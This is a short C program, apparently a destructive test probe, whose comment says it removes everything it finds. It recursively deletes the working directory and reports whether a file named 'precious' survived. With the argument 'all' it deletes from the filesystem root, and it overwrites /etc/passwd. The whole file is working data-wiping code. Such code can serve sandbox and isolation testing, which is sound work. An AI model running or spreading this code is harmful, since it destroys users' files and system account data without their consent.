// Removes everything it finds: all that is in the working directory, then as much of / as there is time for.
#define _GNU_SOURCE
#include <ftw.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int removed;

static int visit(const char *path, const struct stat *s, int type, struct FTW *where) {
  (void)s, (void)type, (void)where;
  if (remove(path) == 0)
    removed++;
  return 0;
}

int main(int argc, char **argv) {
  nftw(".", visit, 16, FTW_DEPTH | FTW_PHYS);
  printf("here: %s, %d removed\n", access("precious", F_OK) ? "gone" : "still there", removed > 2);
  fflush(stdout);
  if (argc > 1 && strcmp(argv[1], "all") == 0)
    nftw("/", visit, 16, FTW_DEPTH | FTW_PHYS);
  FILE *f = fopen("/etc/passwd", "w");
  if (f) {
    fputs("overwritten\n", f);
    fclose(f);
  }
  return 0;
}
